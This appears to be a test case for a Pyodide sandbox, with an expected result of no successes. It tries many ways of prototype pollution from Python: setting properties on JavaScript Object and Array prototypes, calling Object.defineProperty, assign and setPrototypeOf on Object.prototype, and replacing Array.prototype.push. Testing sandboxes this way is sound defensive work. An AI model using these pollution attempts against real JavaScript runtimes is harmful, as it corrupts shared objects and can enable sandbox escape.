# From: prototype pollution from Python: the loader's own objects would inherit what is planted.
# Ends: []
from gains import gains


def attack(probe):
    from pyodide.ffi import create_proxy, to_js

    array, literal = to_js([]), to_js({"a": 1})

    def planted(holder, name):
        setattr(holder, name, 1)
        return getattr(to_js([]), name, None)

    ways = []
    for holder in (array.constructor.prototype, literal.constructor, literal.constructor.prototype, array.constructor.constructor.prototype, array.__proto__, array.__proto__.__proto__):
        for name in ("planted", "sig", "node_ops", "stream_ops", "get", "set", "value", "then", "global", "exports"):
            ways.append(lambda holder=holder, name=name: planted(holder, name))
    Object = array.__proto__.__proto__.constructor
    ways += [
        lambda: Object.defineProperty(Object.prototype, "planted", to_js({"value": 1}, dict_converter=Object.fromEntries)).planted,
        lambda: Object.assign(Object.prototype, to_js({"planted": 1}, dict_converter=Object.fromEntries)).planted,
        lambda: Object.setPrototypeOf(Object.prototype, array).planted,
        lambda: setattr(array.__proto__, "push", create_proxy(print)) or "replaced" if array.push is print else None,
    ]
    return gains(ways)
